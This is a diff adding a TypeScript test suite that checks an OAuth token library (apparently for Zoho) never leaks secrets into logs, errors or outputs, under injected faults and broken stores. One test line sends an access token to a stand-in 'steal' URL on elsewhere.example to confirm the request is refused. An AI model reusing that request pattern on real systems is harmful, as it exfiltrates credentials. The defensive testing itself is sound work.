@@ -1,0 +1,597 @@
+// No secret leaks, proven: the whole token flow, every failure we can provoke and the example
+// programs run through a harness that records every text tokenkeeper lets out, and every secret
+// that existed on the way; then no secret may appear in any of those texts.
+import { execFile } from 'node:child_process'
+import { randomBytes } from 'node:crypto'
+import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { createServer } from 'node:net'
+import { join, resolve } from 'node:path'
+import { pathToFileURL } from 'node:url'
+import { promisify } from 'node:util'
+import { afterAll, describe, expect, it } from 'vitest'
+import {
+  Environment,
+  FileStore,
+  Initializer,
+  MemoryStore,
+  OAuthToken,
+  UserSignature,
+  createLogger,
+  type Logger,
+  type OAuthTokenInit,
+  type Session,
+  type TokenStore,
+} from '../src/index.ts'
+import { SQLiteStore } from '../src/stores/sqlite.ts'
+import {
+  startAccountsEmulator,
+  type AccountsEmulator,
+  type EmulatorFault,
+} from '../src/testing/index.ts'
+import { scratchDir, scratchPath } from './helpers.ts'
+import { LeakCapture } from './leak-capture.ts'
+
+const run = promisify(execFile)
+const root = resolve(import.meta.dirname, '..')
+const dir = scratchDir('tokenkeeper-leaks-')
+const HOUR = 3_600_000
+const USERS = ['ada@zylker.example', 'grace@zylker.example', 'linus@zylker.example']
+const FAULTS: EmulatorFault[] = [
+  'http500',
+  'http503',
+  'http429',
+  'hang',
+  'reset',
+  'malformed-json',
+  'html',
+  'error-body',
+  'no-access-token',
+]
+
+/** One capture for the whole file: every test adds to it, the last one scans it. */
+const capture = new LeakCapture()
+const emulators: AccountsEmulator[] = []
+afterAll(async () => {
+  await Promise.all(emulators.map((e) => e.close()))
+})
+
+/** A token shaped like Zoho's, never issued by anyone: for the refused-code cases. */
+function fakeZohoToken(): string {
+  return `1000.${randomBytes(16).toString('hex')}.${randomBytes(16).toString('hex')}`
+}
+
+/** The codes (or names) of the errors the steps met, to show that the failures really happened. */
+const met = new Set<string>()
+
+/** Runs a step that may fail; its error, whatever it is, goes to the capture. */
+async function attempt<T>(source: string, step: () => T | Promise<T>): Promise<T | undefined> {
+  try {
+    return await step()
+  } catch (err) {
+    capture.error(source, err)
+    const code = (err as { code?: unknown }).code
+    met.add(typeof code === 'string' ? code : String((err as { name?: unknown }).name))
+    return undefined
+  }
+}
+
+/** Records what a session, its token and the store's rows show, and notes their secrets. */
+async function see(source: string, session: Session | undefined, store: TokenStore): Promise<void> {
+  if (session) {
+    capture.object(`${source} session`, session)
+    capture.object(`${source} session.token`, session.token)
+    capture.tokenSecrets(session.token)
+    capture.text(`${source} session.id`, String(session.id))
+  }
+  await attempt(`${source} store rows`, async () => {
+    capture.object(`${source} store`, store)
+    for (const token of await store.getTokens()) {
+      capture.object(`${source} stored token`, token)
+      capture.tokenSecrets(token)
+      const again = await store.findTokenById(token.id!)
+      if (again) capture.object(`${source} findTokenById`, again)
+    }
+  })
+}
+
+/** A logger that hands every line to all of the given ones. */
+function tee(...loggers: Logger[]): Logger {
+  const each =
+    (level: keyof Logger) =>
+    (message: string): void => {
+      for (const logger of loggers) logger[level](message)
+    }
+  return { debug: each('debug'), info: each('info'), warn: each('warn'), error: each('error') }
+}
+
+/** Collects what is written to the process's standard error while `body` runs. */
+async function withStderr(source: string, body: () => Promise<void>): Promise<void> {
+  const original = process.stderr.write.bind(process.stderr)
+  let written = ''
+  process.stderr.write = (chunk: string | Uint8Array): boolean => {
+    written += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8')
+    return true
+  }
+  try {
+    await body()
+  } finally {
+    process.stderr.write = original
+    capture.text(source, written)
+  }
+}
+
+type StoreKind = 'MemoryStore' | 'FileStore' | 'SQLiteStore'
+
+/**
+ * The whole flow on one store: grant exchanges (with the user look-up), switchUser, refreshes
+ * (rotated), a 401 answered by a refresh and a retry, every fault at the exchange, the refresh,
+ * the API and the revocation, refused codes and clients, argument errors carrying secrets, a
+ * read-only FileStore, and revocations.
+ */
+async function flow(kind: StoreKind): Promise<void> {
+  const clock = { now: Date.now() }
+  const emulator = await startAccountsEmulator({
+    users: USERS.map((email) => ({ email })),
+    rotateRefreshTokens: true,
+    // Both ways of answering errors: Zoho's HTTP 200 bodies and OAuth 2.0's 400s.
+    errorStyle: kind === 'SQLiteStore' ? 'oauth2' : 'zoho',
+    now: () => clock.now,
+  })
+  emulators.push(emulator)
+  const client = emulator.clients[0]!
+  const path = scratchPath(dir, kind === 'FileStore' ? 'tokens.txt' : 'tokens.db')
+  const store: TokenStore =
+    kind === 'MemoryStore'
+      ? new MemoryStore()
+      : kind === 'FileStore'
+        ? new FileStore(path)
+        : new SQLiteStore({ path })
+  const logPath = scratchPath(dir, `${kind}.log`)
+  // The flows run concurrently: one of them (alone) also logs to standard error, captured.
+  const toStderr = kind === 'MemoryStore'
+  const logger = tee(
+    capture.logger(`${kind} logger`),
+    createLogger({ level: 'debug', filePath: logPath }),
+    createLogger({ level: toStderr ? 'debug' : 'off' }),
+  )
+  const fetch = capture.wireFetch()
+  const config = { now: () => clock.now, fetch, retryDelayMs: 1, requestTimeoutMs: 400 }
+  const initialize = (token: OAuthToken, extra: Record<string, unknown> = {}) =>
+    Initializer.initialize({
+      environment: emulator.environment,
+      token,
+      store,
+      logger,
+      config: { ...config, ...extra },
+    })
+  const grant = (user: string, extra: Partial<OAuthTokenInit> = {}) => {
+    const code = emulator.issueGrantCode({ user })
+    capture.secret(code)
+    return new OAuthToken({
+      clientId: client.clientId,
+      clientSecret: client.clientSecret,
+      grantToken: code,
+      redirectUrl: 'http://127.0.0.1/callback',
+      ...extra,
+    })
+  }
+  const step = (name: string) => `${kind} ${name}`
+
+  const steps = async (): Promise<void> => {
+    // Grant exchange, with the user look-up; then a second user.
+    const ada = await initialize(grant(USERS[0]!), { findUser: true, retries: 1 })
+    await see(step('exchange'), ada, store)
+    const grace = await ada.switchUser(
+      grant(USERS[1]!, { userSignature: new UserSignature(USERS[1]!) }),
+    )
+    await see(step('switchUser'), grace, store)
+    const leads = await attempt(step('api'), () => ada.fetch('/crm/v8/Leads'))
+    expect(leads?.status).toBe(200)
+    await leads?.body?.cancel()
+
+    // Initialize again, by id: found in the store.
+    await see(step('by id'), await initialize(new OAuthToken({ id: ada.id! })), store)
+
+    // Refresh, with rotation: new access and refresh tokens.
+    clock.now += 2 * HOUR
+    await ada.getAccessToken()
+    await grace.getAccessToken()
+    await see(step('refresh'), ada, store)
+
+    // A 401: the access token is revoked behind the session's back; fetch refreshes and retries.
+    const stale = await ada.getAccessToken()
+    await globalThis.fetch(emulator.environment.revokeUrl, {
+      method: 'POST',
+      body: new URLSearchParams({ token: stale }),
+    })
+    const retried = await ada.fetch('/crm/v8/Leads')
+    expect(retried.status).toBe(200)
+    await retried.body?.cancel()
+    await see(step('401 retry'), ada, store)
+
+    // Every fault at the refresh: once (transient ones are retried), then twice (past retries).
+    const refresher = await initialize(new OAuthToken({ id: ada.id! }), { retries: 1 })
+    for (const fault of FAULTS) {
+      for (const times of [1, 2]) {
+        clock.now += 2 * HOUR
+        emulator.fail(fault, { on: 'refresh', times })
+        await attempt(step(`refresh ${fault} x${times}`), () => refresher.getAccessToken())
+        await attempt(step(`refresh after ${fault}`), () => refresher.getAccessToken())
+      }
+    }
+    await see(step('refresh faults'), refresher, store)
+
+    // Every fault at the exchange, without retries.
+    for (const fault of FAULTS) {
+      emulator.fail(fault, { on: 'exchange' })
+      await see(
+        step(`exchange ${fault}`),
+        await attempt(step(`exchange ${fault}`), () =>
+          initialize(grant(USERS[2]!), { retries: 0 }),
+        ),
+        store,
+      )
+    }
+
+    // Every fault at the API (the session's own fetch) and at the revocation.
+    for (const fault of FAULTS) {
+      emulator.fail(fault, { on: 'api' })
+      const response = await attempt(step(`api ${fault}`), () => ada.fetch('/crm/v8/Leads'))
+      await response?.body?.cancel()
+    }
+    for (const fault of FAULTS) {
+      const session = await attempt(step(`revoke ${fault} session`), () =>
+        ada.switchUser(grant(USERS[2]!)),
+      )
+      // Transient faults past the session's one retry (but 429: once, then retried); definite
+      // ones once. Nothing is left over for the revocations that follow.
+      const transient = ['http500', 'http503', 'hang', 'reset', 'html'].includes(fault)
+      emulator.fail(fault, { on: 'revoke', times: transient ? 2 : 1 })
+      await attempt(step(`revoke ${fault}`), () => session?.revoke())
+      await attempt(step(`remove after ${fault}`), () => session?.remove())
+    }
+
+    // Refusals: a wrong client secret, unknown codes and refresh tokens; and a spent code
+    // again (found in the store, not sent).
+    const wrongSecret = `wrong-secret-${randomBytes(12).toString('hex')}`
+    capture.secret(wrongSecret)
+    await attempt(step('bad client secret, exchange'), () =>
+      initialize(grant(USERS[2]!, { clientSecret: wrongSecret })),
+    )
+    const adaRow = (await store.findTokenById(ada.id!))!
+    // A real refresh token with the wrong secret, on an empty store (so no row supplies one).
+    await attempt(step('bad client secret, refresh'), () =>
+      Initializer.initialize({
+        environment: emulator.environment,
+        token: new OAuthToken({
+          clientId: client.clientId,
+          clientSecret: wrongSecret,
+          refreshToken: adaRow.refreshToken,
+        }),
+        store: new MemoryStore(),
+        logger,
+        config,
+      }),
+    )
+    const refusals: [string, Partial<OAuthTokenInit>][] = [
+      ['invalid code', { grantToken: fakeZohoToken() }],
+      ['invalid refresh token', { refreshToken: fakeZohoToken() }],
+      ['spent code again', { grantToken: adaRow.grantToken }],
+    ]
+    for (const [what, extra] of refusals) {
+      capture.secret(extra.grantToken, extra.refreshToken)
+      await attempt(step(what), () =>
+        initialize(
+          new OAuthToken({
+            clientId: client.clientId,
+            clientSecret: client.clientSecret,
+            ...extra,
+          }),
+        ),
+      )
+    }
+    // A refresh token revoked at the server: the refused refresh is checked against the store.
+    const victim = await ada.switchUser(grant(USERS[2]!))
+    const victimRow = (await store.findTokenById(victim.id!))!
+    capture.tokenSecrets(victimRow)
+    await globalThis.fetch(emulator.environment.revokeUrl, {
+      method: 'POST',
+      body: new URLSearchParams({ token: victimRow.refreshToken! }),
+    })
+    clock.now += 2 * HOUR
+    expect(await attempt(step('revoked refresh token'), () => victim.getAccessToken())).toBe(
+      undefined,
+    )
+    await attempt(step('revoked refresh token, fetch'), () => victim.fetch('/crm/v8/Leads'))
+    await see(step('revoked refresh token'), victim, store)
+
+    // Arguments that carry secrets to the wrong place.
+    const secret = adaRow.accessToken!
+    await attempt(
+      step('expiryTime as a token'),
+      () => new OAuthToken({ expiryTime: secret as never }),
+    )
+    await attempt(step('misspelt option'), () => new OAuthToken({ access_token: secret } as never))
+    await attempt(
+      step('clientId as a number'),
+      () => new OAuthToken({ clientId: 42 as never, clientSecret: secret }),
+    )
+    await attempt(step('config with a token'), () =>
+      initialize(new OAuthToken({ accessToken: secret }), { refreshSkewMs: secret }),
+    )
+    await attempt(step('fetch off the API domain'), () =>
+      ada.fetch(`https://elsewhere.example/steal?token=${secret}`),
+    )
+    await attempt(step('refresh token without client'), () =>
+      initialize(new OAuthToken({ refreshToken: adaRow.refreshToken })),
+    )
+    await attempt(step('a user twice'), () =>
+      store.saveToken(
+        new OAuthToken({
+          id: 'Zz9Zz9Zz9Z',
+          userSignature: new UserSignature(USERS[0]!),
+          clientId: client.clientId,
+          clientSecret: client.clientSecret,
+          refreshToken: adaRow.refreshToken,
+          accessToken: adaRow.accessToken,
+        }),
+      ),
+    )
+
+    // A read-only token file: the refresh works, its save fails.
+    if (kind === 'FileStore') {
+      const session = await initialize(new OAuthToken({ id: ada.id! }))
+      chmodSync(path, 0o400)
+      clock.now += 2 * HOUR
+      await attempt(step('read-only file'), () => session.getAccessToken())
+      await see(step('read-only file'), session, store)
+      chmodSync(path, 0o600)
+    }
+
+    // Revocation, and what is left.
+    await see(step('before revoke'), ada, store)
+    await attempt(step('revoke'), () => ada.revoke())
+    await attempt(step('revoke grace'), () => grace.revoke())
+    await attempt(step('after revoke'), () => ada.getAccessToken())
+    await see(step('end'), undefined, store)
+    await store.close?.()
+  }
+  if (toStderr) await withStderr(`${kind} stderr logger`, steps)
+  else await steps()
+
+  capture.text(`${kind} log file`, readFileSync(logPath, 'utf8'))
+  capture.emulatorSecrets(emulator)
+}
+
+/** Stores that cannot work, and an accounts server that is not there. */
+async function brokenThings(): Promise<void> {
+  const emulator = await startAccountsEmulator()
+  emulators.push(emulator)
+  const client = emulator.clients[0]!
+  const logger = capture.logger('broken logger')
+  const fetch = capture.wireFetch()
+  const grant = () => {
+    const code = emulator.issueGrantCode()
+    capture.secret(code)
+    return new OAuthToken({
+      clientId: client.clientId,
+      clientSecret: client.clientSecret,
+      grantToken: code,
+    })
+  }
+  const initialize = (
+    store: TokenStore,
+    token = grant(),
+    environment = emulator.environment,
+    viaFetch = fetch,
+  ) =>
+    Initializer.initialize({
+      environment,
+      token,
+      store,
+      logger,
+      config: { fetch: viaFetch, retryDelayMs: 1, requestTimeoutMs: 500 },
+    })
+
+  const aDirectory = scratchPath(dir, 'a-directory')
+  mkdirSync(aDirectory)
+  const notADatabase = scratchPath(dir, 'not-a-database.db')
+  const hidden = fakeZohoToken()
+  capture.secret(hidden)
+  writeFileSync(notADatabase, `this is not a database but it holds ${hidden}\n`.repeat(200))
+  const noHeader = scratchPath(dir, 'no-header.txt')
+  const badRow = scratchPath(dir, 'bad-row.txt')
+  const rowSecrets = [fakeZohoToken(), fakeZohoToken(), fakeZohoToken(), 'row-client-secret-123']
+  capture.secret(...rowSecrets)
+  const [refresh, access, code, secret] = rowSecrets
+  writeFileSync(
+    noHeader,
+    `AbCdE12345,ada@zylker.example,${client.clientId},${secret},${refresh},${access},${code},1,,\n`,
+  )
+  writeFileSync(
+    badRow,
+    'id,user_name,client_id,client_secret,refresh_token,access_token,grant_token,expiry_time,redirect_url,api_domain\n' +
+      `AbCdE12345,ada@zylker.example,${client.clientId},${secret},${refresh},"${access},${code},1,,\n`,
+  )
+  const stores: [string, () => TokenStore][] = [
+    ['FileStore on a directory', () => new FileStore(aDirectory)],
+    ['FileStore in a missing directory', () => new FileStore(join(aDirectory, 'no', 't.txt'))],
+    ['FileStore without a header', () => new FileStore(noHeader)],
+    ['FileStore with a broken row', () => new FileStore(badRow)],
+    ['SQLiteStore on a directory', () => new SQLiteStore({ path: aDirectory })],
+    ['SQLiteStore on a file that is not a database', () => new SQLiteStore({ path: notADatabase })],
+    [
+      'SQLiteStore in a missing directory',
+      () => new SQLiteStore({ path: join(aDirectory, 'no', 't.db') }),
+    ],
+  ]
+  for (const [name, create] of stores) {
+    const store = create()
+    await attempt(`${name}: initialize`, () => initialize(store))
+    await attempt(`${name}: findTokenById`, () => store.findTokenById('AbCdE12345'))
+    await attempt(`${name}: findToken`, () =>
+      store.findToken(new OAuthToken({ accessToken: access })),
+    )
+    await attempt(`${name}: getTokens`, () => store.getTokens())
+    await attempt(`${name}: saveToken`, () =>
+      store.saveToken(
+        new OAuthToken({ clientId: client.clientId, clientSecret: secret, refreshToken: refresh }),
+      ),
+    )
+    if (store instanceof FileStore) capture.object(`${name}: problems`, store.problems)
+    await attempt(`${name}: close`, () => store.close?.())
+  }
+
+  // An accounts server that does not answer: a closed port.
+  const port = await new Promise<number>((done) => {
+    const server = createServer().listen(0, '127.0.0.1', () => {
+      const { port } = server.address() as { port: number }
+      server.close(() => done(port))
+    })
+  })
+  const nowhere = new Environment({
+    name: 'nowhere',
+    apiDomain: `http://127.0.0.1:${port}`,
+    accountsUrl: `http://127.0.0.1:${port}`,
+  })
+  // A fetch that tries two addresses at once, as happy eyeballs does for a dual-stack name: its
+  // failure carries an AggregateError of both refusals in the cause chain.
+  const dualStack: typeof globalThis.fetch = async (input, init) => {
+    try {
+      return await Promise.any([fetch(input, init), fetch(input, init)])
+    } catch (err) {
+      throw new TypeError('fetch failed', { cause: err })
+    }
+  }
+  const refreshing = () =>
+    new OAuthToken({
+      clientId: client.clientId,
+      clientSecret: client.clientSecret,
+      refreshToken: refresh,
+    })
+  for (const [name, viaFetch] of [
+    ['one address', fetch],
+    ['two addresses', dualStack],
+  ] as const) {
+    await attempt(`accounts server unreachable, ${name}`, () =>
+      initialize(new MemoryStore(), grant(), nowhere, viaFetch),
+    )
+    await attempt(`accounts server unreachable, ${name}, refresh`, () =>
+      initialize(new MemoryStore(), refreshing(), nowhere, viaFetch),
+    )
+  }
+  // A server that echoes what it was sent in its error answers, in both error styles.
+  for (const status of [200, 400, 401]) {
+    const echo: typeof globalThis.fetch = async (_input, init) => {
+      const form = new URLSearchParams(typeof init?.body === 'string' ? init.body : '')
+      capture.secret(form.get('client_secret'), form.get('code'), form.get('refresh_token'))
+      const sent = [...form].map(([name, value]) => `${name}=${value}`).join(', ')
+      return new Response(
+        JSON.stringify({
+          error: `invalid_code for ${form.get('code') ?? form.get('refresh_token')}`,
+          error_description: `we got ${sent}; client ${form.get('client_secret')}`,
+        }),
+        { status, headers: { 'content-type': 'application/json' } },
+      )
+    }
+    await attempt(`server echoes secrets with HTTP ${status}`, () =>
+      initialize(new MemoryStore(), grant(), emulator.environment, echo),
+    )
+    await attempt(`server echoes secrets with HTTP ${status}, refresh`, () =>
+      initialize(new MemoryStore(), refreshing(), emulator.environment, echo),
+    )
+  }
+  capture.emulatorSecrets(emulator)
+}
+
+/** Runs an example program in a scratch directory, as a user would, and captures its output. */
+async function example(name: string): Promise<void> {
+  const cwd = scratchPath(dir, `${name}-cwd`)
+  mkdirSync(cwd)
+  const tsx = pathToFileURL(join(root, 'node_modules/tsx/dist/loader.mjs')).href
+  const { stdout, stderr } = await run(
+    process.execPath,
+    ['--import', tsx, join(root, 'examples', name)],
+    { cwd, encoding: 'utf8' },
+  )
+  capture.text(`${name} stdout`, stdout)
+  capture.text(`${name} stderr`, stderr)
+  expect(stdout.length).toBeGreaterThan(0)
+  // Its secrets: the rows it saved (the session example's emulator uses the default client).
+  const store = new SQLiteStore({ path: join(cwd, 'zohooauth.db') })
+  const rows = await store.getTokens()
+  expect(rows.length).toBeGreaterThan(0)
+  for (const token of rows) capture.tokenSecrets(token)
+  await store.close()
+}
+
+describe('no secret leaks, proven', () => {
+  it('the harness finds a secret planted anywhere it looks', () => {
+    const probe = new LeakCapture()
+    const planted = fakeZohoToken()
+    probe.secret(planted, 'short') // too short to be checked
+    probe.logger('log line').info(`token saved ${planted}`)
+    const [, middle] = planted.split('.')
+    probe.error(
+      'deep cause',
+      new Error('outer', { cause: new Error('middle', { cause: new Error(`inner ${middle}`) }) }),
+    )
+    probe.error(
+      'aggregate',
+      new Error('outer', {
+        cause: new AggregateError([new Error('a'), new Error(encodeURIComponent(planted))]),
+      }),
+    )
+    probe.object('object', { nested: { deeper: [planted] } })
+    probe.text('clean', 'nothing here; short')
+    expect(probe.secrets).toEqual([planted])
+    expect(new Set(probe.scan().map((leak) => leak.source))).toEqual(
+      new Set(['log line', 'deep cause', 'aggregate', 'object']),
+    )
+  })
+
+  for (const kind of ['MemoryStore', 'FileStore', 'SQLiteStore'] as const) {
+    it.concurrent(`the whole flow on ${kind}`, async () => {
+      await flow(kind)
+    })
+  }
+
+  it.concurrent('broken stores and an unreachable accounts server', async () => {
+    await brokenThings()
+  })
+
+  it.concurrent('the example programs, run as a user runs them', async () => {
+    await example('session.ts')
+    await example('demo.ts')
+  })
+
+  it('no secret appears in any captured output', () => {
+    const secrets = capture.secrets
+    const leaks = capture.scan()
+    console.log(
+      `leaks: ${capture.outputs.length} captured outputs scanned, ${secrets.length} secrets checked, ${leaks.length} found`,
+    )
+    for (const leak of leaks.slice(0, 20)) {
+      console.log(`leak in ${leak.source}: ${leak.context}`)
+    }
+    // The failures really happened: every kind of error was met on the way.
+    for (const code of [
+      'SERVER_ERROR',
+      'RATE_LIMIT_ERROR',
+      'TIMEOUT_ERROR',
+      'NETWORK_ERROR',
+      'INVALID_RESPONSE',
+      'INVALID_TOKEN_ERROR',
+      'INVALID_ARGUMENT',
+      'MANDATORY_VALUE_ERROR',
+      'TOKEN_STORE',
+      'SESSION_ENDED',
+    ]) {
+      expect(met).toContain(code)
+    }
+    expect(capture.outputs.some((o) => o.text.includes('AggregateError'))).toBe(true)
+    expect(capture.outputs.length).toBeGreaterThan(500)
+    expect(secrets.length).toBeGreaterThan(50)
+    expect(leaks).toEqual([])
+  })
+})
